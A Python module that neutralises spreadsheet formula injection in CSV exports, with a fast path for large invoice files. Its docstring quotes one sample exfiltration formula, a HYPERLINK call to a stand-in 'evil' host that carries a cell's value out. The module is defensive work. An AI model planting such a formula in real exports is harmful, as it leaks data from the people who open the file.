"""CSV cells a spreadsheet will not run: the one writer every CSV download and export uses.

Why: a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
which some spreadsheets skip before looking) is read by Excel and LibreOffice as a
formula; an imported visit reference ``=HYPERLINK("http://evil/?"&A1,"open")`` went
straight into finance's invoice CSV (issue 14 item 7).

The rule (OWASP's): a *text* cell whose first character, after any spaces, is one of those
gets a leading apostrophe, which spreadsheets show as text and hide. A cell that is a
plain number — ``-12.50``, ``+3``, ``42`` — is left alone, so negative amounts (credit
lines, corrections) stay numbers finance can add up: a number cannot be a formula. Values
that are not strings (int, Decimal, float) are numbers and written as they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any, TextIO

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")
# First characters that need a closer look (a trigger, or a space before one): any other
# cell is safe as it is, which settles nearly every cell of a big export in one set lookup.
_FIRST = frozenset(t[0] for t in TRIGGERS) | {" "}


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: text that a spreadsheet would run is made inert."""
    if value is None or not isinstance(value, str) or value[:1] not in _FIRST:
        return value
    head = value.lstrip(" ")
    if head.startswith(TRIGGERS) and not _NUMBER.match(head):
        return "'" + value
    return value


def _quoted_by_csv() -> frozenset[str]:
    """The characters for which the csv module quotes a cell in this module's dialect.

    Asked of csv itself rather than written down: which of "\r" and "\n" it quotes
    depends on the Python version and the line terminator (3.11 quotes only the
    terminator's; later versions both). Nothing else makes QUOTE_MINIMAL quote.
    """
    quoted = set()
    for c in ',"\r\n':
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerow([f"a{c}b"])
        if buf.getvalue().startswith('"'):
            quoted.add(c)
    return frozenset(quoted)


_QUOTED = _quoted_by_csv()


def cell_text(value: Any) -> str:
    """One cell exactly as :class:`SafeWriter` prints it: neutralised, then quoted if csv would.

    For exports that build their lines as text (the invoice CSV, 350,000 rows): the rule
    is still :func:`safe_cell`, and ``tests/test_csvsafe.py`` checks this against the
    writer's own output for hostile and ordinary cells.
    """
    if value.__class__ is str and value[:1] not in _FIRST and _QUOTED.isdisjoint(value):
        return value  # nearly every cell of a big export: nothing to neutralise, nothing to quote
    value = safe_cell(value)
    text = "" if value is None else str(value)
    if _QUOTED.isdisjoint(text):
        return text
    return '"' + text.replace('"', '""') + '"'


class Cells(dict[Any, str]):
    """``cells[value]``: :func:`cell_text` of a value, worked out once (references, names repeat)."""

    def __missing__(self, value: Any) -> str:
        text = self[value] = cell_text(value)
        return text


class SafeWriter:
    """``csv.writer`` with every cell through :func:`safe_cell` (same ``writerow``/``writerows``)."""

    def __init__(self, out: TextIO, **fmtparams: Any) -> None:
        fmtparams.setdefault("lineterminator", "\n")
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        first = _FIRST
        # Fast path: a plain str whose first character cannot start a formula is written as it
        # is; anything else (a str subclass, a number, None, a risky first character) gets
        # the full test of safe_cell.
        cells = [v if v.__class__ is str and v[:1] not in first else safe_cell(v) for v in row]
        return self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO, **fmtparams: Any) -> SafeWriter:
    return SafeWriter(out, **fmtparams)
